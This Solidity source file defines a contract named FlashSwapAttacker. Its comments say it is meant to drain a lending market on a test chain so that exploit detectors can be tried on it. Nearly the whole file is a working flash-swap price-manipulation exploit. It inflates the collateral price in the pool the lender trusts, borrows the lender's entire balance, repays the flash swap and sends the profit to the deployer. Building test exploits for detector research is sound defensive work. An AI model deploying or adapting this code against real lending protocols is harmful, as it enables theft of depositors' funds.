// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "./IERC20.sol";
import {IUniswapV2Pair} from "./IUniswapV2Pair.sol";
import {LendingMarket} from "./LendingMarket.sol";

/// @title FlashSwapAttacker
/// @notice Drains a LendingMarket on a test chain, for detectors to be tried on.
/// @dev In one transaction: takes the loan asset out of an unrelated pool (flash swap), buys the collateral in the
/// pool that the lender reads, so that its price soars, borrows everything against a little of it, sells the rest
/// back, repays the flash swap and leaves with the difference. The shape of bZx, Cheese Bank and Warp Finance (2020).
contract FlashSwapAttacker {
    /// @notice Raised when anyone but the deployer, or any pool but the flash pool, calls.
    error NotAllowed(address caller);

    uint256 private constant FEE_BASE = 1_000;
    uint256 private constant FEE_KEPT = 997;

    address private immutable OWNER = msg.sender;
    IUniswapV2Pair private immutable FLASH_POOL;
    IUniswapV2Pair private immutable PRICE_POOL;
    LendingMarket private immutable LENDER;
    IERC20 private immutable LOAN;
    IERC20 private immutable COLLATERAL;

    constructor(IUniswapV2Pair flashPool, LendingMarket lender) {
        FLASH_POOL = flashPool;
        LENDER = lender;
        PRICE_POOL = lender.POOL();
        LOAN = lender.LOAN();
        COLLATERAL = lender.COLLATERAL();
    }

    /// @notice Attacks with `flashAmount` of capital, leaving `collateralAmount` with the lender, and takes all of it.
    function attack(uint256 flashAmount, uint256 collateralAmount) external {
        _attack(flashAmount, collateralAmount, LOAN.balanceOf(address(LENDER)));
    }

    /// @notice Likewise, and takes `loanAmount` alone: one slice of several.
    function attackPart(uint256 flashAmount, uint256 collateralAmount, uint256 loanAmount) external {
        _attack(flashAmount, collateralAmount, loanAmount);
    }

    /// @notice Called by the flash pool once its tokens are here and before it checks the payment.
    function uniswapV2Call(address sender, uint256, uint256, bytes calldata data) external {
        if (msg.sender != address(FLASH_POOL) || sender != address(this)) revert NotAllowed(msg.sender);

        (uint256 flashAmount, uint256 collateralAmount, uint256 loanAmount) =
            abi.decode(data, (uint256, uint256, uint256));
        _swap(LOAN, flashAmount);

        COLLATERAL.approve(address(LENDER), collateralAmount);
        LENDER.depositCollateral(collateralAmount);
        LENDER.borrow(loanAmount);

        _swap(COLLATERAL, COLLATERAL.balanceOf(address(this)));
        LOAN.transfer(address(FLASH_POOL), flashAmount * FEE_BASE / FEE_KEPT + 1);
    }

    function _attack(uint256 flashAmount, uint256 collateralAmount, uint256 loanAmount) private {
        if (msg.sender != OWNER) revert NotAllowed(msg.sender);

        bool loanIsFirst = FLASH_POOL.token0() == address(LOAN);
        bytes memory data = abi.encode(flashAmount, collateralAmount, loanAmount);
        FLASH_POOL.swap(loanIsFirst ? flashAmount : 0, loanIsFirst ? 0 : flashAmount, address(this), data);
        LOAN.transfer(OWNER, LOAN.balanceOf(address(this)));
    }

    /// @dev Sells `amount` of `token` in the pool whose price the lender trusts.
    function _swap(IERC20 token, uint256 amount) private {
        (uint256 reserve0, uint256 reserve1,) = PRICE_POOL.getReserves();
        bool sellsFirst = PRICE_POOL.token0() == address(token);
        (uint256 reserveIn, uint256 reserveOut) = sellsFirst ? (reserve0, reserve1) : (reserve1, reserve0);

        uint256 paid = amount * FEE_KEPT;
        uint256 out = paid * reserveOut / (reserveIn * FEE_BASE + paid);
        token.transfer(address(PRICE_POOL), amount);
        PRICE_POOL.swap(sellsFirst ? 0 : out, sellsFirst ? out : 0, address(this), "");
    }
}
